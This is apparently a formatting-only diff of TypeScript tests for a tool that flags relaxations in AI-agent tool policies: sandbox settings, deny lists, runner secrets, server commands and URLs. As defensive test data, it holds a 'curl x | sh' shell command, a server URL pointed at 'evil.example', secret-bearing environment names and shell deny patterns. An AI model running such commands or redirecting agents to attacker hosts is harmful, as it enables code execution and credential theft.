@@ -72,9 +72,15 @@ describe('diffPolicies: nothing changed', () => {
     expect(diffPolicies(parse(BASE), parse(BASE))).toEqual([]);
     const reordered = edit(
       BASE,
-      ['  - tools: ["*shell*"]\n    reason: no code execution\n  - tools: "delete_*"\n    when: read\n', '  - tools: ["delete_*"]\n    when: read\n  - tools: ["*shell*"]\n    reason: code execution is not for agents\n'],
+      [
+        '  - tools: ["*shell*"]\n    reason: no code execution\n  - tools: "delete_*"\n    when: read\n',
+        '  - tools: ["delete_*"]\n    when: read\n  - tools: ["*shell*"]\n    reason: code execution is not for agents\n',
+      ],
       ['reviewers: [alice, acme/security]', 'reviewers: ["@Alice", acme/Security]'],
-      ['schema-widened: error\n  open-arguments: notice', `open-arguments: notice\n  schema-widened: error\n  tool-removed: ${ruleById('tool-removed')!.level}`],
+      [
+        'schema-widened: error\n  open-arguments: notice',
+        `open-arguments: notice\n  schema-widened: error\n  tool-removed: ${ruleById('tool-removed')!.level}`,
+      ],
     );
     expect(changes(reordered)).toEqual([]);
   });
@@ -109,7 +115,9 @@ describe('diffPolicies: rules', () => {
     expect(changes(edit(atDefault, ['  open-arguments: notice\n', '']), atDefault)).toEqual([]);
     expect(changes(edit(BASE, ['  open-arguments: notice\n', '  tool-removed: off\n']))).toEqual([
       [true, 'rule-level', '/rules/tool-removed', `rule "tool-removed" is lowered from ${dflt('tool-removed')} to off`],
-      ...(dflt('open-arguments') === 'notice' ? [] : [[false, 'rule-level', '/rules', `rule "open-arguments" is raised from notice to ${dflt('open-arguments')}`]]),
+      ...(dflt('open-arguments') === 'notice'
+        ? []
+        : [[false, 'rule-level', '/rules', `rule "open-arguments" is raised from notice to ${dflt('open-arguments')}`]]),
     ]);
   });
 
@@ -119,7 +127,9 @@ describe('diffPolicies: rules', () => {
     expect(changes(edit(BASE, ['  schema-widened: error\n', '']), base)).toEqual([raised]);
     const noRules = edit(BASE, ['rules:\n  schema-widened: error\n  open-arguments: notice\n  unannotated-tool: warning\n', '']);
     expect(changes(noRules, base).filter((c) => c[3].includes('schema-widened'))).toEqual([[false, 'rule-level', '', raised[3]]]);
-    expect(changes(edit(noRules, ['limits:', 'rules: {}\nlimits:']), base).filter((c) => c[3].includes('schema-widened'))).toEqual([[false, 'rule-level', '/rules', raised[3]]]);
+    expect(changes(edit(noRules, ['limits:', 'rules: {}\nlimits:']), base).filter((c) => c[3].includes('schema-widened'))).toEqual([
+      [false, 'rule-level', '/rules', raised[3]],
+    ]);
   });
 });
 
@@ -136,7 +146,10 @@ describe('diffPolicies: overrides', () => {
   });
 
   it('an override removed that raised a level is relaxed; one that lowered it is a tightening; a changed one is both', () => {
-    const base = edit(BASE, ['    rules: { unannotated-tool: error }\n', '    rules: { unannotated-tool: error }\n  - tools: ["legacy_*"]\n    rules: { open-arguments: off }\n']);
+    const base = edit(BASE, [
+      '    rules: { unannotated-tool: error }\n',
+      '    rules: { unannotated-tool: error }\n  - tools: ["legacy_*"]\n    rules: { open-arguments: off }\n',
+    ]);
     expect(changes(edit(BASE, ['overrides:\n  - tools: ["admin_*"]\n    rules: { unannotated-tool: error }\n', '']), base)).toEqual([
       [true, 'override', '', 'override for tools ["admin_*"] is removed: unannotated-tool error (warning without it)'],
       [false, 'override', '', 'override for tools ["legacy_*"] is removed: open-arguments off (notice without it)'],
@@ -150,7 +163,11 @@ describe('diffPolicies: overrides', () => {
 
 describe('diffPolicies: deny', () => {
   it('an entry removed is relaxed (at /deny); one added is a tightening (at its item)', () => {
-    const head = edit(BASE, ['  - tools: ["*shell*"]\n    reason: no code execution\n', ''], ['    when: read\n', '    when: read\n  - tools: [exec_*, run_*]\n']);
+    const head = edit(
+      BASE,
+      ['  - tools: ["*shell*"]\n    reason: no code execution\n', ''],
+      ['    when: read\n', '    when: read\n  - tools: [exec_*, run_*]\n'],
+    );
     expect(changes(head)).toEqual([
       [true, 'deny', '/deny', 'deny entry ["*shell*"] is removed'],
       [false, 'deny', '/deny/1', 'deny entry ["exec_*", "run_*"] is added'],
@@ -200,7 +217,9 @@ describe('diffPolicies: review', () => {
 
 describe('diffPolicies: limits and flags', () => {
   it('a limit raised or removed is relaxed; lowered or added is a tightening', () => {
-    expect(changes(edit(BASE, ['max-tools: 40', 'max-tools: 400']))).toEqual([[true, 'limit', '/limits/max-tools', 'limits.max-tools is raised from 40 to 400']]);
+    expect(changes(edit(BASE, ['max-tools: 40', 'max-tools: 400']))).toEqual([
+      [true, 'limit', '/limits/max-tools', 'limits.max-tools is raised from 40 to 400'],
+    ]);
     expect(changes(edit(BASE, ['max-tools: 40', 'max-payload-bytes: 1000']))).toEqual([
       [true, 'limit', '/limits', 'limits.max-tools is removed (was 40): no limit'],
       [false, 'limit', '/limits/max-payload-bytes', 'limits.max-payload-bytes is added: 1000'],
@@ -213,7 +232,12 @@ describe('diffPolicies: limits and flags', () => {
     expect(changes(off)).toEqual([[true, 'require-explicit-hints', '/require-explicit-hints', 'require-explicit-hints is turned off']]);
     expect(changes(BASE, off)).toEqual([[false, 'require-explicit-hints', '/require-explicit-hints', 'require-explicit-hints is turned on']]);
     // Removed (false by default): the pointer falls back to the document.
-    expect(changes(edit(BASE, ['require-explicit-hints: true\n', '']))[0]).toEqual([true, 'require-explicit-hints', '', 'require-explicit-hints is turned off']);
+    expect(changes(edit(BASE, ['require-explicit-hints: true\n', '']))[0]).toEqual([
+      true,
+      'require-explicit-hints',
+      '',
+      'require-explicit-hints is turned off',
+    ]);
   });
 
   it('allow-pull-request-target and allow-remote-refs on are relaxed, off are tightenings', () => {
@@ -233,7 +257,9 @@ describe('diffPolicies: limits and flags', () => {
       [true, 'allow', '/allow-runner-env/0', 'allow-runner-env now lets sources pass GITHUB_TOKEN to their servers'],
       [false, 'allow', '/allow-runner-env', 'allow-runner-env no longer lets sources pass RUNNER_TEMP to their servers'],
     ]);
-    expect(changes(edit(BASE, ['allow-runner-env: [RUNNER_TEMP]\n', '']))).toEqual([[false, 'allow', '', 'allow-runner-env no longer lets sources pass RUNNER_TEMP to their servers']]);
+    expect(changes(edit(BASE, ['allow-runner-env: [RUNNER_TEMP]\n', '']))).toEqual([
+      [false, 'allow', '', 'allow-runner-env no longer lets sources pass RUNNER_TEMP to their servers'],
+    ]);
   });
 });
 
@@ -251,17 +277,35 @@ describe('diffPolicies: sources', () => {
       ['    recorded: recorded/tools.json\n', '    openapi: integrations/saved.json\n'],
     );
     expect(changes(head)).toEqual([
-      [true, 'source-file', '/sources/2/openapi', 'source "rental" now reads its integration config from "integrations/other.json" instead of "integrations/rental.json"'],
-      [true, 'source-contract', '/sources/2/contract', 'source "rental" now keeps its contract in "elsewhere/rental.json" instead of ".toolgate/rental.surface.json"'],
+      [
+        true,
+        'source-file',
+        '/sources/2/openapi',
+        'source "rental" now reads its integration config from "integrations/other.json" instead of "integrations/rental.json"',
+      ],
+      [
+        true,
+        'source-contract',
+        '/sources/2/contract',
+        'source "rental" now keeps its contract in "elsewhere/rental.json" instead of ".toolgate/rental.surface.json"',
+      ],
       [true, 'source-kind', '/sources/3/openapi', 'source "saved" is now an OpenAPI integration instead of a recorded tools/list result'],
     ]);
     expect(changes(edit(BASE, ['recorded/tools.json', 'recorded/other.json']))).toEqual([
-      [true, 'source-file', '/sources/3/recorded', 'source "saved" now reads its recorded tools/list result from "recorded/other.json" instead of "recorded/tools.json"'],
+      [
+        true,
+        'source-file',
+        '/sources/3/recorded',
+        'source "saved" now reads its recorded tools/list result from "recorded/other.json" instead of "recorded/tools.json"',
+      ],
     ]);
   });
 
   it('stdio: command, args and cwd changed are relaxed; env names added are relaxed, removed a tightening', () => {
-    const head = edit(BASE, ['      command: node\n      args: [server.js]\n      cwd: servers/web\n      env: [API_BASE]\n', '      command: bash\n      args: [-c, "curl x | sh"]\n      env: [API_KEY, SECRET]\n']);
+    const head = edit(BASE, [
+      '      command: node\n      args: [server.js]\n      cwd: servers/web\n      env: [API_BASE]\n',
+      '      command: bash\n      args: [-c, "curl x | sh"]\n      env: [API_KEY, SECRET]\n',
+    ]);
     expect(changes(head)).toEqual([
       // cwd is gone from the head: its change is on `mcp:`, the line before.
       [true, 'source-command', '/sources/0/mcp', 'source "web" now runs its server in "." instead of "servers/web"'],
@@ -284,9 +328,19 @@ describe('diffPolicies: sources', () => {
     );
     expect(changes(head)).toEqual([
       [true, 'source-url', '/sources/1/mcp/url', 'source "remote" now connects to "http://evil.example/mcp" instead of "http://127.0.0.1:3000/mcp"'],
-      [true, 'source-command', '/sources/1/mcp/start/args', 'source "remote" now passes the arguments ["http.js", "--debug"] to its start command instead of ["http.js"]'],
+      [
+        true,
+        'source-command',
+        '/sources/1/mcp/start/args',
+        'source "remote" now passes the arguments ["http.js", "--debug"] to its start command instead of ["http.js"]',
+      ],
       [true, 'source-env', '/sources/1/mcp/start/env/1', 'source "remote" passes 1 more environment variable to its start command: TOKEN'],
-      [true, 'source-headers', '/sources/1/mcp/headers/Authorization', 'source "remote" now sends header "Authorization" with the value of "OTHER_TOKEN" after "Bearer " instead of the value of "REMOTE_TOKEN" after "Bearer "'],
+      [
+        true,
+        'source-headers',
+        '/sources/1/mcp/headers/Authorization',
+        'source "remote" now sends header "Authorization" with the value of "OTHER_TOKEN" after "Bearer " instead of the value of "REMOTE_TOKEN" after "Bearer "',
+      ],
       [true, 'source-headers', '/sources/1/mcp/headers/X-Extra', 'source "remote" now sends header "X-Extra" with the value of "EXTRA"'],
     ]);
     const noHeaders = edit(BASE, ['      headers:\n        Authorization: { env: REMOTE_TOKEN, prefix: "Bearer " }\n', '']);
@@ -308,7 +362,10 @@ describe('diffPolicies: sources', () => {
   });
 
   it('stdio → http is a kind change', () => {
-    const head = edit(BASE, ['      command: node\n      args: [server.js]\n      cwd: servers/web\n      env: [API_BASE]\n', '      url: http://127.0.0.1:9/mcp\n']);
+    const head = edit(BASE, [
+      '      command: node\n      args: [server.js]\n      cwd: servers/web\n      env: [API_BASE]\n',
+      '      url: http://127.0.0.1:9/mcp\n',
+    ]);
     expect(changes(head)).toEqual([[true, 'source-kind', '/sources/0/mcp', 'source "web" is now an MCP server over HTTP instead of an MCP server over stdio']]);
   });
 });
@@ -352,7 +409,10 @@ describe('diffPolicies: located in the head file, hostile values quoted as data'
   it('a hostile header name and deny pattern are quoted too', () => {
     const head = edit(
       BASE,
-      ['        Authorization: { env: REMOTE_TOKEN, prefix: "Bearer " }', '        Authorization: { env: REMOTE_TOKEN, prefix: "Bearer " }\n        "a/b~c\\n": { env: "T\\u0007" }'],
+      [
+        '        Authorization: { env: REMOTE_TOKEN, prefix: "Bearer " }',
+        '        Authorization: { env: REMOTE_TOKEN, prefix: "Bearer " }\n        "a/b~c\\n": { env: "T\\u0007" }',
+      ],
       ['    when: read\n', '    when: read\n  - tools: ["*\\u001b[31m*"]\n'],
     );
     const found = diffPolicies(parse(BASE), parse(head));
@@ -396,7 +456,10 @@ describe('judgingPolicy', () => {
     // defaults; the HTTP start command the base runs keeps the host network).
     const bare = (xs: typeof j.sources) => xs.map((x) => (x.kind === 'mcp' ? { ...x, mcp: { ...x.mcp, containment: undefined } } : x));
     expect(bare(j.sources)).toEqual(bare(head.sources));
-    expect(j.sources.flatMap((x) => (x.kind === 'mcp' ? [[x.id, x.mcp.containment?.startNetwork]] : []))).toEqual([['web', false], ['remote', true]]);
+    expect(j.sources.flatMap((x) => (x.kind === 'mcp' ? [[x.id, x.mcp.containment?.startNetwork]] : []))).toEqual([
+      ['web', false],
+      ['remote', true],
+    ]);
     expect(j.sources.map((s) => s.id)).toEqual(['web', 'remote', 'rental', 'extra', 'saved']);
     expect(j.lineOf('/sources/3')).toBe(lineWith(headText, 'id: extra'));
     expect(j.lineOf('/rules')).toBe(lineWith(headText, 'schema-widened: off') - 1);
@@ -421,7 +484,16 @@ describe('judgingPolicy', () => {
 
 describe('runner secrets in a source env', () => {
   it('isRunnerSecretName: GITHUB_TOKEN and ACTIONS_/INPUT_/RUNNER_ names, any case', () => {
-    for (const n of ['GITHUB_TOKEN', 'github_token', 'ACTIONS_RUNTIME_TOKEN', 'actions_id_token_request_url', 'INPUT_GITHUB-TOKEN', 'input_token', 'RUNNER_TEMP', 'Runner_Temp']) {
+    for (const n of [
+      'GITHUB_TOKEN',
+      'github_token',
+      'ACTIONS_RUNTIME_TOKEN',
+      'actions_id_token_request_url',
+      'INPUT_GITHUB-TOKEN',
+      'input_token',
+      'RUNNER_TEMP',
+      'Runner_Temp',
+    ]) {
       expect(isRunnerSecretName(n), n).toBe(true);
     }
     for (const n of ['GITHUB_TOKENS', 'MY_GITHUB_TOKEN', 'GITHUB_SHA', 'API_KEY', 'INPUT', 'RUNNERS', 'XACTIONS_X', '']) {
@@ -451,7 +523,12 @@ describe('runner secrets in a source env', () => {
   });
 
   it("judged by the base's allow-runner-env: the PR cannot allow its own", () => {
-    const head = parse(edit(withSecrets, ['allow-runner-env: [RUNNER_TEMP]', 'allow-runner-env: [RUNNER_TEMP, runner_temp, ACTIONS_RUNTIME_TOKEN, github_token, INPUT_GITHUB_TOKEN, GITHUB_TOKEN]']));
+    const head = parse(
+      edit(withSecrets, [
+        'allow-runner-env: [RUNNER_TEMP]',
+        'allow-runner-env: [RUNNER_TEMP, runner_temp, ACTIONS_RUNTIME_TOKEN, github_token, INPUT_GITHUB_TOKEN, GITHUB_TOKEN]',
+      ]),
+    );
     expect(runnerSecretsInEnv(head, head.allowRunnerEnv)).toEqual([]);
     expect(runnerSecretsInEnv(head, judgingPolicy(parse(BASE), head).allowRunnerEnv).map((s) => s.name)).toEqual([
       'ACTIONS_RUNTIME_TOKEN',
@@ -483,12 +560,18 @@ describe('the sandbox (issue 12)', () => {
 
   it('`sandbox: required` dropped is a relaxation; added, a tightening', () => {
     const required = edit(BASE, ['require-explicit-hints: true\n', 'require-explicit-hints: true\nsandbox: required\n']);
-    expect(changes(BASE, required)).toEqual([[true, 'sandbox', '', 'sandbox is no longer required: servers may run unsandboxed where the machine has no sandbox']]);
+    expect(changes(BASE, required)).toEqual([
+      [true, 'sandbox', '', 'sandbox is no longer required: servers may run unsandboxed where the machine has no sandbox'],
+    ]);
     expect(changes(required)).toEqual([[false, 'sandbox', '/sandbox', 'sandbox is now required: no server runs unsandboxed']]);
   });
 
   it("the pull request's servers run contained as the base says, a new source as strictly as possible", () => {
-    const head = edit(BASE, ['      env: [API_BASE]\n', '      env: [API_BASE]\n      network: open\n      writable: [data]\n'], ['  - id: saved\n', '  - id: extra\n    mcp: { command: node, args: [x.js], sandbox: "off" }\n  - id: saved\n']);
+    const head = edit(
+      BASE,
+      ['      env: [API_BASE]\n', '      env: [API_BASE]\n      network: open\n      writable: [data]\n'],
+      ['  - id: saved\n', '  - id: extra\n    mcp: { command: node, args: [x.js], sandbox: "off" }\n  - id: saved\n'],
+    );
     const judging = judgingPolicy(parse(BASE), parse(head));
     const containment = (id: string) => (judging.sources.find((s) => s.id === id) as { mcp: { containment: unknown } }).mcp.containment;
     expect(containment('web')).toEqual({ sandbox: 'on', network: 'loopback', writable: [], startNetwork: false });
@@ -496,13 +579,23 @@ describe('the sandbox (issue 12)', () => {
     // An HTTP start command the base already runs keeps the host network; a new or changed one does not.
     expect(containment('remote')).toMatchObject({ startNetwork: true });
     const changedStart = judgingPolicy(parse(BASE), parse(edit(BASE, ['args: [http.js]', 'args: [other.js]'])));
-    expect((changedStart.sources.find((s) => s.id === 'remote') as { mcp: { containment: { startNetwork: boolean } } }).mcp.containment.startNetwork).toBe(false);
+    expect((changedStart.sources.find((s) => s.id === 'remote') as { mcp: { containment: { startNetwork: boolean } } }).mcp.containment.startNetwork).toBe(
+      false,
+    );
     // The head's own policy still says what it asks for (it applies after the merge).
     expect((parse(head).sources[0] as { mcp: { containment: unknown } }).mcp.containment).toEqual({ sandbox: 'on', network: 'open', writable: ['/repo/data'] });
   });
 
   it('`sandbox: required` with a source that turns it off is refused at that source', () => {
-    expect(() => parse(edit(BASE, ['require-explicit-hints: true\n', 'require-explicit-hints: true\nsandbox: required\n'], ['      env: [API_BASE]\n', '      env: [API_BASE]\n      sandbox: "off"\n']))).toThrow(/turns the sandbox off, but `sandbox: required`/);
+    expect(() =>
+      parse(
+        edit(
+          BASE,
+          ['require-explicit-hints: true\n', 'require-explicit-hints: true\nsandbox: required\n'],
+          ['      env: [API_BASE]\n', '      env: [API_BASE]\n      sandbox: "off"\n'],
+        ),
+      ),
+    ).toThrow(/turns the sandbox off, but `sandbox: required`/);
   });
 });
 
@@ -514,13 +607,23 @@ describe('diffPolicies: exports', () => {
       [false, 'exports', '/exports/1', 'exports entry (to envoy, file "deploy/route.yaml") is added'],
     ]);
     const dropped = edit(withExports, ['  - to: envoy\n    source: remote\n    file: deploy/route.yaml\n', '']);
-    expect(changes(dropped, withExports)).toEqual([[true, 'exports', '/exports', 'exports entry (to envoy, file "deploy/route.yaml") is removed or changed: that export is no longer checked against the contract']]);
+    expect(changes(dropped, withExports)).toEqual([
+      [
+        true,
+        'exports',
+        '/exports',
+        'exports entry (to envoy, file "deploy/route.yaml") is removed or changed: that export is no longer checked against the contract',
+      ],
+    ]);
     const moved = edit(withExports, ['file: .claude/settings.json', 'file: .claude/other.json']);
     expect(changes(moved, withExports).map(([relaxed, kind]) => [relaxed, kind])).toEqual([
       [true, 'exports'],
       [false, 'exports'],
     ]);
-    const none = edit(withExports, ['exports:\n  - to: claude-code\n    source: web\n    file: .claude/settings.json\n  - to: envoy\n    source: remote\n    file: deploy/route.yaml\n', '']);
+    const none = edit(withExports, [
+      'exports:\n  - to: claude-code\n    source: web\n    file: .claude/settings.json\n  - to: envoy\n    source: remote\n    file: deploy/route.yaml\n',
+      '',
+    ]);
     expect(changes(none, withExports).every(([relaxed, , pointer]) => relaxed && pointer === '')).toBe(true);
   });
 });
@@ -531,7 +634,9 @@ describe('diffPolicies: safety fields (issue 16 §4)', () => {
 
   it('a field added is a tightening; removed or redefined (another safer value) is relaxed', () => {
     expect(changes(FIELDS)).toEqual([[false, 'safety-fields', '/safety-fields/0', 'safety field "paid" (/_meta/com.example~1paid, safer: false) is added']]);
-    expect(changes(BASE, FIELDS)).toEqual([[true, 'safety-fields', '', 'safety field "paid" (/_meta/com.example~1paid, safer: false) is removed or redefined']]);
+    expect(changes(BASE, FIELDS)).toEqual([
+      [true, 'safety-fields', '', 'safety field "paid" (/_meta/com.example~1paid, safer: false) is removed or redefined'],
+    ]);
     expect(changes(edit(FIELDS, ['safer: false', 'safer: true']), FIELDS)).toEqual([
       [true, 'safety-fields', '/safety-fields', 'safety field "paid" (/_meta/com.example~1paid, safer: false) is removed or redefined'],
       [false, 'safety-fields', '/safety-fields/0', 'safety field "paid" (/_meta/com.example~1paid, safer: true) is added'],
